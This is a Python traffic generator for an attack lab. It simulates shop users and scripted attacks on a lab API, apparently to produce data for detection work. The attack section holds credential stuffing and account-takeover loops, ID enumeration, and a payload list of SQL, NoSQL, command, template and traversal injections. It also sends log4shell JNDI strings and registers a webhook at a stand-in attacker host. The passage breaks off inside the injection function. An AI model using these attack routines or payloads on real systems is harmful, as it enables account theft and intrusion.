#!/usr/bin/env python3
"""lab_clients.py - python clients of the attack lab (standard library only).

  lab_clients.py benign ADDR[,ADDR...] --seed N --users USERS.json --duration S --server IP
  lab_clients.py attack NAME --addr ADDR --seed N --users USERS.json --duration S --server IP

Every client binds its source address (http.client source_address) and talks
HTTP/1.1 keep-alive to nginx on SERVER:80. Every loop is bounded in count
and in time (--duration, and the caller wraps us in `timeout`).

benign: one thread per address; each is one user of the shop (see Benign).
attack NAME: one of ATTACKS below. Prints one JSON line at the end:
{"name", "requests", "statuses": {...}}.
"""

import argparse
import collections
import http.client
import json
import random
import sys
import threading
import time
import urllib.parse

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36",
    "ShopApp/4.12.1 (iPhone; iOS 17.1; Scale/3.00)",
    "ShopApp/4.11.0 (Android 13; SM-S911B)",
    "okhttp/4.11.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Edg/119.0.2151.72",
]


class Client:
    """One keep-alive HTTP/1.1 connection from a fixed source address."""

    def __init__(self, server, addr, ua, port=80, timeout=10):
        self.server, self.addr, self.ua, self.port, self.timeout = server, addr, ua, port, timeout
        self.conn = None
        self.token = None
        self.n = 0
        self.statuses = collections.Counter()
        self.first = None
        self.base = None  # callable (method, path) -> headers sent on every call (benign personas)

    def close(self):
        if self.conn:
            self.conn.close()
            self.conn = None

    def req(self, method, path, body=None, headers=None, form=False, auth=True):
        h = {"User-Agent": self.ua, "Accept": "application/json"}
        if auth and self.token:
            h["Authorization"] = "Bearer " + self.token
        data = None
        if body is not None:
            if form:
                data = urllib.parse.urlencode(body).encode()
                h["Content-Type"] = "application/x-www-form-urlencoded"
            elif isinstance(body, (bytes, str)):
                data = body.encode() if isinstance(body, str) else body
                h["Content-Type"] = "application/json"
            else:
                data = json.dumps(body).encode()
                h["Content-Type"] = "application/json"
        if self.base:
            h.update(self.base(method, path))
        h.update(headers or {})
        h = {k: v for k, v in h.items() if v is not None}
        for attempt in (0, 1):
            if self.conn is None:
                self.conn = http.client.HTTPConnection(self.server, self.port, timeout=self.timeout,
                                                       source_address=(self.addr, 0))
            try:
                if self.first is None:
                    self.first = time.time()
                self.conn.request(method, path, body=data, headers=h)
                r = self.conn.getresponse()
                raw = r.read()
                self.n += 1
                self.statuses[r.status] += 1
                if r.will_close:
                    self.close()
                try:
                    js = json.loads(raw) if raw and raw[:1] in b"{[" else None
                except ValueError:
                    js = None
                return r.status, js, raw
            except (OSError, http.client.HTTPException):
                # server closed an idle keep-alive connection: reconnect once
                self.close()
                if attempt:
                    self.statuses["error"] += 1
                    return 0, None, b""
        return 0, None, b""

    def login(self, user, pw, form=False):
        st, js, _ = self.req("POST", "/api/v1/login", {"username": user, "password": pw}, form=form, auth=False)
        if st == 200 and js:
            self.token = js.get("token")
        return st


def load_users(path):
    d = json.load(open(path))
    return d["accounts"], d["emails"], d["user_ids"]


def fake_email(rnd):
    fn = rnd.choice(["john", "jane", "mike", "sara", "tom", "anna", "alex", "kate", "chris", "lisa",
                     "paul", "maria", "david", "laura", "mark", "nina", "peter", "julia", "sam", "eva"])
    ln = rnd.choice(["miller", "meyer", "garcia", "lopez", "kim", "nguyen", "fischer", "rossi",
                     "dubois", "novak", "silva", "kowalski", "smith", "jones", "brown"])
    sep = rnd.choice([".", "_", ""])
    num = rnd.choice(["", str(rnd.randrange(100)), str(rnd.randrange(1960, 2005))])
    return "%s%s%s%s@%s" % (fn, sep, ln, num, rnd.choice(["gmail.com", "yahoo.com", "outlook.com",
                                                            "example.com", "proton.me", "mail.ru"]))


# ---------------------------------------------------------------------------
# benign users

SEARCH_WORDS = ["phone", "laptop", "cable", "charger", "case", "headphones", "speaker", "mouse",
                "keyboard", "monitor", "camera", "tablet", "watch", "pro", "mini", "wireless", "usb c", "lamp"]
# What people type in a search box. The product search is the lab's injectable one (a quote,
# a semicolon or `--` gets a SQL error), so these avoid those characters; the free text with
# apostrophes and semicolons goes to the parameterized routes (reviews, profile, contact, the
# support agent's customer search).
SEARCH_TEXT = ["drop table lamp", "table lamp", "select pro", "union jack bag", "desk & chair", "100% wool bag",
               "i <3 my phone case", "usb-c cable", "phone 13/14 case", "lamp or desk", "where is my order",
               "#1 mouse", "c++ keyboard", "mini (black)", "50% off", "chair+desk", "order by price", "<3",
               "select", "union", "update firmware router", "drop", "delete key keyboard", "cable 2m = 6ft",
               "headphones > 100", "mouse < 20", "smart watch, black", "caf\u00e9 lamp", "s\u00e9lection pro"]
FREE_TEXT = ["Love it <3 works with my \"pro\" charger; 100% worth it & cheap",
             "Bought it for my dad's desk -- he says it's the best lamp ever!",
             "Don't buy: broke after 2 days; support was great though (ticket #4417)",
             "I'd select this one over the union jack bag, 5/5",
             "drop table lamp is sturdy; the table lamp isn't",
             "Size: 30\" x 20\"; colour: O'Hara green",
             "Works fine. Rating = 4/5 -- would be 5/5 if cheaper",
             "Where's my order?? Paid on 12/11 & still nothing :(",
             "Is it 1 or 2 pieces? The photo shows two; the text says one...",
             "The manual says C:\\Program Files\\ShopApp\\ -- that's Windows only?",
             "Great <3 <3 <3",
             "50% of the time it works every time; select 'fast mode' first",
             "Ordered 3 & got 2; please refund the 3rd one (order placed Tuesday)",
             "Caf\u00e9-style lamp, tr\u00e8s jolie; \u00e0 recommander"]
PERSON_NAMES = ["Se\u00e1n O'Brien", "Mary-Kate O'Connor", "Zo\u00eb D'Angelo", "Jean-Luc N'Diaye", "Ren\u00e9e O'Hara",
                "Bj\u00f6rn M\u00fcller", "Ana Garc\u00eda-L\u00f3pez", "D'Arcy Smith"]
ADDRESSES = ["12 Rue d'Al\u00e9sia; Apt 3", "Flat 2/B, 5 King's Road", "PO Box 44 & 45", "1600 Main St. #5; Springfield",
             "Unit 7 -- Harbour Way", "Calle O'Donnell 23, 4\u00ba izq."]
COMPANIES = ["Smith & Sons", "O'Hara's Pub; Dublin", "AT&T", "Barnes & Noble", "Procter & Gamble", "Ye Olde Shoppe"]
# Webhook and callback URLs of the customers' own systems: documentation domains, never resolved
# (the lab API stores them and never fetches them).
CUSTOMER_URLS = ["https://hooks.example.com/shop/orders", "https://integrations.example.org/webhooks/shop-events",
                 "https://api.example.net/v2/callbacks/shop?account=4411", "https://crm.example.com/inbound/shop",
                 "https://example.org/erp/hooks?source=shop&format=json", "https://hooks.example.net/T0423/B9912"]
WEB_UAS = [u for u in BROWSER_UAS if u.startswith("Mozilla/")]
MOBILE_UAS = ["ShopApp/4.12.1 (iPhone; iOS 17.1; Scale/3.00)", "ShopApp/4.11.0 (Android 13; SM-S911B)",
              "okhttp/4.11.0", "ShopApp/4.12.0 (Android 14; Pixel 8)"]
LANGS = ["en-GB,en;q=0.9", "en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.8", "en-IE,en;q=0.7"]


class User:
    """One benign user: a Client plus think time and the user's own seeded random stream."""

    def __init__(self, server, addr, seed, name, acct, U, deadline, ua_pool):
        self.rnd = random.Random("%d-%s" % (seed, addr))
        self.server, self.addr, self.name, self.acct, self.deadline = server, addr, name, acct, deadline
        self.accounts, self.emails, self.user_ids, self.names = U
        self.c = Client(server, addr, self.rnd.choice(ua_pool))
        self.site = "http://%s" % server
        self.orders = []
        self.refresh = None
        self.client_id = None

    def alive(self):
        return time.time() < self.deadline

    def think(self, lo=0.2, hi=3.0):
        time.sleep(min(self.rnd.uniform(lo, hi), max(0, self.deadline - time.time())))

    def maybe_reconnect(self, p=0.06):
        if self.rnd.random() < p:  # tab closed / app backgrounded: a new connection later
            self.c.close()

    def call(self, method, path, body=None, headers=None, form=False, auth=True):
        st, js, raw = self.c.req(method, path, body, headers=headers, form=form, auth=auth)
        if st == 401 and self.refresh and isinstance(js, dict) and js.get("error") == "invalid_token":
            # the access token expired: a refresh grant, then the same call again
            self.oauth({"grant_type": "refresh_token", "refresh_token": self.refresh, "client_id": self.client_id})
            st, js, raw = self.c.req(method, path, body, headers=headers, form=form, auth=auth)
        return st, js, raw

    def oauth(self, fields):
        st, js, _ = self.c.req("POST", "/api/v1/oauth/token", fields, form=True, auth=False)
        if st == 200 and js:
            self.c.token, self.refresh = js.get("access_token"), js.get("refresh_token")
        return st

    def search_q(self):
        r = self.rnd.random()
        text = self.rnd.choice(SEARCH_TEXT) if r < 0.55 else self.rnd.choice(SEARCH_WORDS)
        # browsers send '+' for spaces from a form, apps %20
        return urllib.parse.quote_plus(text) if self.rnd.random() < 0.5 else urllib.parse.quote(text)

    def typo_then_success(self):
        """A mistyped path or id first (404), then the right one."""
        k = self.rnd.randrange(4)
        pid = self.rnd.randint(1, 200)
        if k == 0:
            self.call("GET", "/api/v1/product/%d" % pid)
            self.think(0.5, 2)
            self.call("GET", "/api/v1/products/%d" % pid)
        elif k == 1:
            self.call("GET", "/api/v1/products/%d" % (pid + 200))
            self.think(0.5, 2)
            self.call("GET", "/api/v1/products/%d" % pid)
        elif k == 2 and self.orders:
            o = self.rnd.choice(self.orders)
            self.call("GET", "/api/v1/orders/%s" % o[:-2])
            self.think(0.5, 2)
            self.call("GET", "/api/v1/orders/%s" % o)
        else:
            em = self.acct["email"]
            at = em.index("@")
            bad = em[:at] + "@" + em[at + 1:].replace("example", "exmaple", 1)
            self.call("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(bad))
            self.think(0.5, 2)
            self.call("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(em))

    def shop_step(self):
        """One step of an ordinary shopper (web or app)."""
        rnd = self.rnd
        x = rnd.random()
        if x < 0.24:
            q = self.search_q()
            return "/search?q=" + q, self.call("GET", "/api/v1/products?q=%s&limit=%d" % (q, rnd.choice([5, 8, 10])))
        if x < 0.44:
            pid = rnd.randint(1, 200)
            return "/products/%d" % pid, self.call("GET", "/api/v1/products/%d" % pid)
        if x < 0.51:
            body = {"product_id": rnd.randint(1, 200), "quantity": rnd.randint(1, 3)}
            st, js, raw = self.call("POST", "/api/v1/orders", body)
            if st == 201 and js:
                self.orders.append(js["id"])
            return "/checkout", (st, js, raw)
        if x < 0.58 and self.orders:
            return "/account/orders", self.call("GET", "/api/v1/orders/%s" % rnd.choice(self.orders))
        if x < 0.62:
            uid = self.acct["id"] if rnd.random() < 0.8 else rnd.choice(self.user_ids)
            return "/account", self.call("GET", "/api/v1/users/%d" % uid)
        if x < 0.66:
            pid = rnd.randint(1, 200)
            return "/products/%d" % pid, self.call("POST", "/api/v1/products/%d/reviews" % pid, {
                "rating": rnd.randint(1, 5), "title": rnd.choice(SEARCH_TEXT), "text": rnd.choice(FREE_TEXT)})
        if x < 0.69:
            return "/account/profile", self.call("PATCH", "/api/v1/users/%d" % self.acct["id"], {
                "name": rnd.choice(PERSON_NAMES), "address": rnd.choice(ADDRESSES), "company": rnd.choice(COMPANIES),
                "website": rnd.choice(["https://www.example.com/~%s" % self.name.split(".")[0],
                                       "https://blog.example.org/", "http://%s/u/%d" % (self.server, self.acct["id"])])})
        if x < 0.72:
            return "/contact", self.call("POST", "/api/v1/contact", {
                "name": rnd.choice(PERSON_NAMES), "email": self.acct["email"], "subject": rnd.choice(SEARCH_TEXT),
                "message": rnd.choice(FREE_TEXT)}, form=rnd.random() < 0.6)
        if x < 0.75:
            return "/reports", self.call("GET", "/api/v1/reports/%d" % rnd.randint(1, 300))
        if x < 0.80:
            self.typo_then_success()
            return None, None
        if x < 0.86:
            return "/products?page", self.call("GET", "/api/v1/products?page=%d&per_page=20" % rnd.randint(1, 10))
        if x < 0.89 and self.orders:
            return "/checkout", self.call("POST", "/api/v1/orders", {
                "product_id": rnd.randint(1, 200), "quantity": 1,
                "callback_url": "http://%s/account/orders?notify=1" % self.server})
        return "/products/%d" % rnd.randint(1, 200), self.call("GET", "/api/v1/products/%d" % rnd.randint(1, 200))


def web_user(u, out):
    """A browser on the shop's web site: Referer (the page it is on, on the site's own address)
    and Origin on every call, cookies, a return URL in the login page's query, a mistyped
    password now and then, free text everywhere."""
    rnd, c = u.rnd, u.c
    page = {"p": "/"}
    ga = "GA1.1.%d.%d" % (rnd.randrange(10 ** 9), 1700000000 + rnd.randrange(10 ** 7))
    lang = rnd.choice(LANGS)

    def hdrs(method, path):
        h = {"Referer": u.site + page["p"], "Origin": u.site, "Accept-Language": lang,
             "Accept-Encoding": "gzip, deflate", "Cookie": "_ga=%s; consent=analytics%%3Dtrue%%26ads%%3Dfalse" % ga,
             "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"}
        if rnd.random() < 0.3:
            h["X-Requested-With"] = "XMLHttpRequest"
        return h

    c.base = hdrs
    time.sleep(rnd.uniform(0, 4))
    # landing from a search engine, then the catalogue
    c.req("GET", "/", headers={"Referer": "https://search.example.org/?q=%s" % urllib.parse.quote_plus(
        rnd.choice(SEARCH_TEXT)), "Origin": None, "Accept": "text/html,application/xhtml+xml"})
    u.think()
    c.req("GET", "/api/v1/products?limit=%d" % rnd.choice([5, 8, 10]))
    u.think()
    nxt = rnd.choice(["/account", "/checkout", "/account/orders?tab=open&sort=date"])
    login_page = "/login?return_to=%s" % (u.site + nxt if rnd.random() < 0.5 else urllib.parse.quote(u.site + nxt, safe=""))
    c.req("GET", login_page, headers={"Accept": "text/html,application/xhtml+xml"})
    page["p"] = login_page
    form = rnd.random() < 0.4
    if rnd.random() < 0.3:  # one typo, then the right password
        c.login(u.name, u.acct["password"][:-1] + "x", form=form)
        u.think(1, 4)
    c.login(u.name, u.acct["password"], form=form)
    page["p"] = nxt
    u.think()
    c.req("GET", "/api/v1/users/%d" % u.acct["id"])
    while u.alive():
        u.think()
        if not u.alive():
            break
        where, _ = u.shop_step()
        if where:
            page["p"] = where
        u.maybe_reconnect()
    c.close()


def mobile_user(u, out):
    """The ShopApp (iOS/Android): OAuth password grant (a bad password is a 400 invalid_grant),
    access tokens that expire after 30 s: a 401, a refresh grant, the same call again."""
    rnd, c = u.rnd, u.c
    dev = "%08x-%04x-4%03x-a%03x-%012x" % (rnd.getrandbits(32), rnd.getrandbits(16), rnd.getrandbits(12),
                                           rnd.getrandbits(12), rnd.getrandbits(48))
    ver = c.ua.split(" ")[0].split("/")[-1]
    lang = rnd.choice(LANGS)
    c.base = lambda m, p: {"X-Device-Id": dev, "X-App-Version": ver, "Accept-Language": lang}
    u.client_id = "shopapp-android" if "Android" in c.ua or "okhttp" in c.ua else "shopapp-ios"
    time.sleep(rnd.uniform(0, 4))
    c.req("GET", "/api/v1/products?limit=%d" % rnd.choice([10, 20]), auth=False)
    u.think()
    if rnd.random() < 0.3:
        u.oauth({"grant_type": "password", "username": u.name, "password": u.acct["password"] + "1",
                 "client_id": u.client_id})
        u.think(1, 4)
    u.oauth({"grant_type": "password", "username": u.name, "password": u.acct["password"], "client_id": u.client_id})
    u.think()
    u.call("GET", "/api/v1/users/%d" % u.acct["id"])
    while u.alive():
        u.think(0.3, 3.5)
        if not u.alive():
            break
        u.shop_step()
        u.maybe_reconnect(0.08)  # the phone switches networks
    c.close()


def integrator_user(u, out):
    """A customer's own back end on the API: registers its webhooks (its own public URLs, and one
    on the shop's own address), places orders with a callback URL and polls them."""
    rnd, c = u.rnd, u.c
    c.ua = rnd.choice(["python-requests/2.31.0", "Go-http-client/1.1", "axios/1.6.2", "node-fetch/1.0"])
    time.sleep(rnd.uniform(0, 4))
    c.login(u.name, u.acct["password"])
    u.think()
    c.req("GET", "/api/v1/webhooks")
    hooks = rnd.sample(CUSTOMER_URLS, 2) + ["http://%s/api/v1/health" % u.server]
    ids = []
    for h in hooks:
        u.think(0.3, 1.5)
        st, js, _ = c.req("POST", "/api/v1/webhooks", {"url": h, "events": ["order.created", "order.shipped"],
                                                       "secret": "whsec_%032x" % rnd.getrandbits(128)})
        if st == 201 and js:
            ids.append(js["id"])
    c.req("GET", "/api/v1/webhooks")
    cb = rnd.choice(CUSTOMER_URLS)
    while u.alive():
        u.think(0.5, 3.0)
        if not u.alive():
            break
        x = rnd.random()
        if x < 0.35:
            st, js, _ = c.req("POST", "/api/v1/orders", {"product_id": rnd.randint(1, 200),
                                                         "quantity": rnd.randint(1, 9), "callback_url": cb})
            if st == 201 and js:
                u.orders.append(js["id"])
        elif x < 0.65 and u.orders:
            c.req("GET", "/api/v1/orders/%s" % rnd.choice(u.orders))
        elif x < 0.72 and ids:
            # rotate a hook: delete one, register it again
            c.req("DELETE", "/api/v1/webhooks/%d" % ids.pop(0))
            u.think(0.3, 1)
            st, js, _ = c.req("POST", "/api/v1/webhooks", {"url": rnd.choice(CUSTOMER_URLS), "events": ["order.created"]})
            if st == 201 and js:
                ids.append(js["id"])
        elif x < 0.8:
            c.req("GET", "/api/v1/webhooks")
        else:
            u.shop_step()
    c.close()


def partner_user(u, out):
    """A partner's catalogue sync: every page of the catalogue at a steady pace with a bearer
    token (following the API's absolute `next` links), then the changed products one by one in
    id order, then a pause, again and again."""
    rnd, c = u.rnd, u.c
    c.ua = "acme-inventory-sync/2.3.1 (+https://partner.example.net/bot)"
    time.sleep(rnd.uniform(0, 2))
    c.login(u.name, u.acct["password"])
    while u.alive():
        path = "/api/v1/products?page=1&per_page=20"
        pages = 0
        while path and u.alive() and pages < 30:
            st, js, _ = c.req("GET", path)
            pages += 1
            nxt = js.get("next") if isinstance(js, dict) else None
            if nxt:
                sp = urllib.parse.urlsplit(nxt)
                path = sp.path + "?" + sp.query
            elif isinstance(js, dict) and js.get("count"):
                path = "/api/v1/products?page=%d&per_page=20" % (js["page"] + 1)  # one more: the empty page
            else:
                path = None
            time.sleep(min(rnd.uniform(0.45, 0.6), max(0, u.deadline - time.time())))
        changed = sorted(rnd.sample(range(1, 201), rnd.randint(12, 25)))
        for pid in changed:
            if not u.alive():
                break
            c.req("GET", "/api/v1/products/%d" % pid)
            time.sleep(min(rnd.uniform(0.45, 0.6), max(0, u.deadline - time.time())))
        u.think(4, 8)
    c.close()


def backoffice_user(u, out):
    """The back office single-page app on another origin of the same host (:8080): a CORS
    preflight before every new URL it calls with a token, Origin and Referer on every call.
    A support agent looks up many customers in a shift (name searches with apostrophes,
    accents and ampersands, e-mail lookups with typos, notes); the admin also reads stats."""
    rnd, c = u.rnd, u.c
    origin = "http://%s:8080" % u.server
    page = {"p": "/"}
    seen = set()
    lang = rnd.choice(LANGS)
    c.base = lambda m, p: {"Origin": origin, "Referer": origin + page["p"], "Accept-Language": lang,
                           "Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors"}
    admin = u.acct["role"] == "admin"

    def api(method, path, body=None):
        key = (method, path.split("?")[0])
        if key not in seen:
            seen.add(key)
            hdr = "authorization,content-type" if body is not None else "authorization"
            c.req("OPTIONS", path, headers={"Access-Control-Request-Method": method,
                                            "Access-Control-Request-Headers": hdr}, auth=False)
        return c.req(method, path, body)

    time.sleep(rnd.uniform(0, 3))
    seen.add(("POST", "/api/v1/login"))
    c.req("OPTIONS", "/api/v1/login", headers={"Access-Control-Request-Method": "POST",
                                               "Access-Control-Request-Headers": "content-type"}, auth=False)
    c.login(u.name, u.acct["password"])
    page["p"] = "/dashboard"
    odd = [int(k) for k, v in u.names.items() if "'" in v or "&" in v or "\u00fc" in v or "\u00ed" in v]
    while u.alive():
        u.think(0.8, 3.0) if not admin else u.think()
        if not u.alive():
            break
        x = rnd.random()
        if admin and x < 0.15:
            page["p"] = "/stats"
            api("GET", "/api/v1/admin/stats")
            continue
        if admin and x < 0.17 and not out.get(u.addr + "-export"):
            out[u.addr + "-export"] = True
            api("GET", "/api/v1/export?format=csv")
            continue
        if x < 0.45:
            uid = rnd.choice(odd) if rnd.random() < 0.5 else rnd.choice(u.user_ids)
            full = u.names.get(str(uid), "")
            parts = full.split(" ", 1)
            term = rnd.choice([full, parts[-1], parts[-1].lower(), full.upper()]) if parts else full
            enc = urllib.parse.quote(term, safe="'") if rnd.random() < 0.5 else urllib.parse.quote_plus(term)
            page["p"] = "/customers?search=%s" % enc
            st, js, _ = api("GET", "/api/v1/users/search?name=%s" % enc)
            items = (js or {}).get("items", []) if isinstance(js, dict) else []
            for it in items[: rnd.randint(1, 2)]:
                u.think(0.5, 2)
                page["p"] = "/customers/%d" % it["id"]
                api("GET", "/api/v1/users/%d" % it["id"])
        elif x < 0.7:
            uid = rnd.choice(u.user_ids)
            page["p"] = "/customers/%d" % uid
            api("GET", "/api/v1/users/%d" % uid)
        elif x < 0.82:
            em = rnd.choice(u.emails)
            if rnd.random() < 0.3:  # typed by hand from a phone call: a typo first
                at = em.index("@")
                bad = em[: at - 1] + em[at:]
                api("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(bad))
                u.think(1, 3)
            page["p"] = "/customers?email=%s" % urllib.parse.quote(em)
            api("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(em))
        elif x < 0.9:
            uid = rnd.choice(u.user_ids)
            page["p"] = "/customers/%d" % uid
            api("PATCH", "/api/v1/users/%d" % uid, {"note": rnd.choice(FREE_TEXT)})
        else:
            page["p"] = "/reports"
            api("GET", "/api/v1/reports/%d" % rnd.randint(1, 300))
        u.maybe_reconnect(0.03)
    c.close()


def monitor_user(u, out):
    """An uptime monitor: the health endpoint every 4 s and the home page every 20 s, a new
    connection each time."""
    rnd, c = u.rnd, u.c
    c.ua = "Blackbox-Exporter/0.24.0"
    time.sleep(rnd.uniform(0, 2))
    i = 0
    while u.alive():
        if i % 5 == 0:
            c.req("GET", "/", headers={"Accept": "text/html"}, auth=False)
        c.req("GET", "/api/v1/health", auth=False)
        c.close()
        i += 1
        time.sleep(min(4.0 + rnd.uniform(-0.05, 0.05), max(0, u.deadline - time.time())))
    c.close()


PERSONAS = {"web": (web_user, WEB_UAS), "mobile": (mobile_user, MOBILE_UAS), "integrator": (integrator_user, ["x"]),
            "partner": (partner_user, ["x"]), "backoffice": (backoffice_user, WEB_UAS), "monitor": (monitor_user, ["x"])}


def benign_user(server, addr, seed, persona, username, acct, U, deadline, out):
    fn, uas = PERSONAS[persona]
    u = User(server, addr, seed, username, acct, U, deadline, uas)
    try:
        fn(u, out)
    finally:
        u.c.close()
        out[addr] = {"persona": persona, "account": username, "requests": u.c.n,
                     "statuses": {str(k): v for k, v in u.c.statuses.items()}}


def plan_benign(seed, addrs, accounts):
    """Address -> (persona, account), deterministic for a seed. The support and admin accounts
    use the back office; of the others, one is the uptime monitor, one the partner sync, two are
    customers' integrations, five the mobile app and the rest browsers."""
    names = sorted(accounts)
    rnd = random.Random(seed)
    rnd.shuffle(names)
    staff = sum(1 for i in range(len(addrs)) if accounts[names[i % len(names)]]["role"] in ("support", "admin"))
    roles = ["monitor", "partner", "integrator", "integrator"] + ["mobile"] * 5
    roles += ["web"] * max(0, len(addrs) - staff - len(roles))
    prnd = random.Random("%d-personas" % seed)
    prnd.shuffle(roles)
    out = {}
    for i, addr in enumerate(addrs):
        u = names[i % len(names)]
        if accounts[u]["role"] in ("support", "admin"):
            out[addr] = ("backoffice", u)
        else:
            out[addr] = (roles.pop() if roles else "web", u)
    return out


def run_benign(a):
    d = json.load(open(a.users))
    U = (d["accounts"], d["emails"], d["user_ids"], d.get("names", {}))
    addrs = a.target.split(",")
    deadline = time.time() + a.duration
    out = {}
    ths = []
    for addr, (persona, u) in plan_benign(a.seed, addrs, d["accounts"]).items():
        t = threading.Thread(target=benign_user, args=(a.server, addr, a.seed, persona, u, d["accounts"][u], U,
                                                       deadline, out), daemon=True)
        t.start()
        ths.append(t)
    for t in ths:
        t.join(a.duration + 30)
    print(json.dumps({k: v for k, v in out.items() if not k.endswith("-export")}))


# ---------------------------------------------------------------------------
# scripted attacks. Each gets (client factory, rnd, users, deadline) and
# returns nothing; the Client counts requests.

def pw_list(n, rnd, skip=0):
    words = [w.strip() for w in open("/usr/share/nmap/nselib/data/passwords.lst", encoding="latin-1")
             if w.strip() and not w.startswith("#!")]
    start = rnd.randrange(0, 2000)
    return words[start:start + n]


def atk_credential_stuffing(c, rnd, U, deadline):
    accounts, emails, _ = U
    pws = pw_list(400, rnd)
    pairs = []
    for _ in range(150):
        user = rnd.choice([fake_email(rnd), fake_email(rnd).split("@")[0], rnd.choice(emails)])
        pairs.append((user, rnd.choice(pws)))
    # two leaked pairs that really work (password reuse)
    for name in rnd.sample(sorted(accounts), 2):
        pairs[rnd.randrange(20, 150)] = (name, accounts[name]["password"])
    for user, pw in pairs:
        if time.time() > deadline:
            break
        c.ua = rnd.choice(BROWSER_UAS)  # rotates user agents like stuffing tools do
        c.login(user, pw, form=False)
        c.token = None
        time.sleep(rnd.uniform(0.03, 0.25))


def atk_account_takeover(c, rnd, U, deadline):
    accounts, _, _ = U
    victim = rnd.choice(sorted(n for n in accounts if accounts[n]["role"] != "admin"))
    acct = accounts[victim]
    pws = pw_list(rnd.randint(35, 60), rnd)
    for pw in pws:
        if time.time() > deadline:
            return
        c.login(victim, pw)
        time.sleep(rnd.uniform(0.05, 0.4))
    if c.login(victim, acct["password"]) != 200:
        return
    time.sleep(1.0)
    c.req("GET", "/api/v1/users/%d" % acct["id"])
    time.sleep(0.5)
    c.req("GET", "/api/v1/admin/stats")
    for _ in range(3):
        time.sleep(rnd.uniform(0.3, 1.0))
        c.req("POST", "/api/v1/orders", {"product_id": rnd.randint(1, 200), "quantity": 5})
    c.req("POST", "/api/v1/webhooks", {"url": "https://hooks.attacker.example/collect"})


def _login_any(c, rnd, accounts):
    name = rnd.choice(sorted(n for n in accounts if accounts[n]["role"] != "admin"))
    c.login(name, accounts[name]["password"])
    return name


def atk_bola_walk(c, rnd, U, deadline):
    accounts, _, _ = U
    _login_any(c, rnd, accounts)
    start = rnd.randint(100, 4000)
    for uid in range(start, start + 400):
        if time.time() > deadline:
            break
        c.req("GET", "/api/v1/users/%d" % uid)
        time.sleep(rnd.uniform(0.005, 0.03))


def atk_lookup_oracle(c, rnd, U, deadline):
    _, emails, _ = U
    for _ in range(300):
        if time.time() > deadline:
            break
        em = rnd.choice(emails) if rnd.random() < 0.06 else fake_email(rnd)
        c.req("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(em))
        time.sleep(rnd.uniform(0.01, 0.06))


def atk_low_and_slow(c, rnd, U, deadline):
    accounts, emails, _ = U
    mode = rnd.choice(["lookup", "ids"])
    if mode == "ids":
        _login_any(c, rnd, accounts)
        uid = rnd.randint(100, 4000)
    for _ in range(100):
        if time.time() > deadline:
            break
        if mode == "ids":
            c.req("GET", "/api/v1/users/%d" % uid)
            uid += 1
        else:
            em = rnd.choice(emails) if rnd.random() < 0.1 else fake_email(rnd)
            c.req("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(em))
        time.sleep(rnd.uniform(0.7, 1.5))


INJ_Q = ["' OR '1'='1", "1' OR 1=1-- -", "\" OR \"\"=\"", "1; DROP TABLE users--", "' UNION SELECT username,password FROM users--",
         "admin'--", "1' AND SLEEP(5)-- -", "';WAITFOR DELAY '0:0:5'--", ";cat /etc/passwd", "| id", "$(id)",
         "`uname -a`", "&& ping -c 3 10.77.0.250", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
         "javascript:alert(document.cookie)", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__}}",
         "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%00", "{\"$gt\":\"\"}", "[$ne]=1"]
INJ_PATHS = ["/api/v1/products/1%20OR%201=1", "/api/v1/products/..%2f..%2f..%2fetc%2fpasswd",
             "/api/v1/reports/..%2F..%2F..%2F..%2Fetc%2Fshadow", "/api/v1/products/1;ls%20-la",
             "/api/v1/users/1'%20OR%20'1'='1", "/api/v1/orders/../../../../windows/win.ini",
             "/static/..%252f..%252f..%252fetc/passwd", "/api/v1/products/%7B%7B7*7%7D%7D",
             "/cgi-bin/;cat%20/etc/passwd", "/api/v1/export?format=csv;id"]


def atk_injection_mix(c, rnd, U, deadline):
    accounts, _, _ = U
    items = []
    for p in INJ_Q:
        items.append(("GET", "/api/v1/products?q=%s&limit=10" % urllib.parse.quote(p), None, None))
        if rnd.random() < 0.5:
            items.append(("GET", "/api/v1/users/lookup?email=%s" % urllib.parse.quote(p), None, None))
    items += [("GET", p, None, None) for p in INJ_PATHS]
    # NoSQL operator injection
    victim = rnd.choice(sorted(accounts))
    items += [("POST", "/api/v1/login", {"username": victim, "password": {"$ne": None}}, None),
              ("POST", "/api/v1/login", {"username": {"$gt": ""}, "password": {"$gt": ""}}, None),
              ("POST", "/api/v1/login", {"username": victim, "password": {"$regex": "^a"}}, None),
              ("GET", "/api/v1/products?q[$ne]=x", None, None),
              ("GET", "/api/v1/users/lookup?email[$regex]=.*", None, None),
              ("POST", "/api/v1/login", {"username": "admin' --", "password": "x"}, None)]
    # log4shell / header injection
    for hdr in ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For"]:
        items.append(("GET", "/api/v1/health", None, {hdr: "${jndi:ldap://10.77.0.250:1389/Exploit}"}))
